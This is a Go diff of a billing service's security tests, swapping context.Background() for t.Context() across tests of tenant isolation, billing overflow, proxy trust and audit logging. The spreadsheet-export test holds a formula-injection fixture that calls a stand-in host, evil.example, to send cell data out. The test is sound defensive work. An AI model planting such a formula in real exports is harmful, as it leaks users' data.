@@ -41,7 +41,7 @@ import (
 func TestResellerCannotTakeItsProvidersStamp(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, backend string) {
 		e := newTestEnv(t, backend)
-		ctx := context.Background()
+		ctx := t.Context()
 		fab := e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
 		cloud := *fab.CloudID
 		fabKey := regKey(W.FabrikamDefault, "azurestack", "fabrikam-stamp")
@@ -123,7 +123,7 @@ func TestResellerCannotTakeItsProvidersStamp(t *testing.T) {
 func TestResellerCannotTouchAnotherResellersMappings(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, backend string) {
 		e := newTestEnv(t, backend)
-		ctx := context.Background()
+		ctx := t.Context()
 		e.createRegistration(W.Proseware.Subscription, "azurestack", "tailspin-stamp", registration.PayAsYouUse, true)
 		fabrikam := auth.Principal{Role: auth.RolePartner, PartnerID: "fabrikam", TokenID: "f"}
 		k := regKey(W.Proseware.Subscription, "azurestack", "tailspin-stamp")
@@ -245,7 +245,7 @@ type usageResult struct {
 func TestOneStackCannotEraseAnothersUsage(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, backend string) {
 		e := newTestEnv(t, backend)
-		ctx := context.Background()
+		ctx := t.Context()
 		op := auth.Principal{Role: auth.RoleOperator, TokenID: "t"}
 		e.createRegistration(W.ContosoDefault, "azurestack", "contoso-stamp", registration.PayAsYouUse, true)
 		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
@@ -308,7 +308,7 @@ func TestHugeForwardedQuantitiesCannotBreakBilling(t *testing.T) {
 		t0 := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
 		clk := clock.Manual(t0)
 		e := newTestEnv(t, backend, func(o *Options) { o.Clock = clk })
-		ctx := context.Background()
+		ctx := t.Context()
 		op := auth.Principal{Role: auth.RoleOperator, TokenID: "t"}
 		if _, err := e.app.Billing.ImportPriceList(ctx, op, "huge", []byte(testPriceListUSD), time.Time{}); err != nil {
 			t.Fatal(err)
@@ -441,7 +441,7 @@ func TestAnonymousClientsCannotStarveCallers(t *testing.T) {
 // keys.
 func TestForwardedHeadersNeedATrustedProxy(t *testing.T) {
 	t.Parallel()
-	ctx := context.Background()
+	ctx := t.Context()
 	for _, c := range []struct {
 		name    string
 		mutate  func(*Options)
@@ -546,7 +546,7 @@ func TestPortalSessions(t *testing.T) {
 func TestExportsAreSafeInASpreadsheet(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, backend string) {
 		w := newBillingWorld(t, backend)
-		ctx := context.Background()
+		ctx := t.Context()
 		evil := `=HYPERLINK("http://evil.example/?"&A1,"Adatum")`
 		if _, _, err := w.env.app.Directory.PutCustomer(ctx, w.op, directory.Customer{TenantID: W.Adatum.Tenant, Name: evil, Partner: "contoso"}); err != nil {
 			t.Fatal(err)
@@ -579,7 +579,7 @@ func TestExportsAreSafeInASpreadsheet(t *testing.T) {
 func TestCredentialsAndTenancyAreAudited(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, backend string) {
 		e := newTestEnv(t, backend)
-		ctx := context.Background()
+		ctx := t.Context()
 		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
 		for i := 0; i < 2; i++ {
 			if resp, body := e.raw("POST", regsPath(W.FabrikamDefault)+"/fabrikam-stamp/getactivationkey?api-version=2017-06-01", e.tokens["fabrikam"], "", nil); resp.StatusCode != 200 {
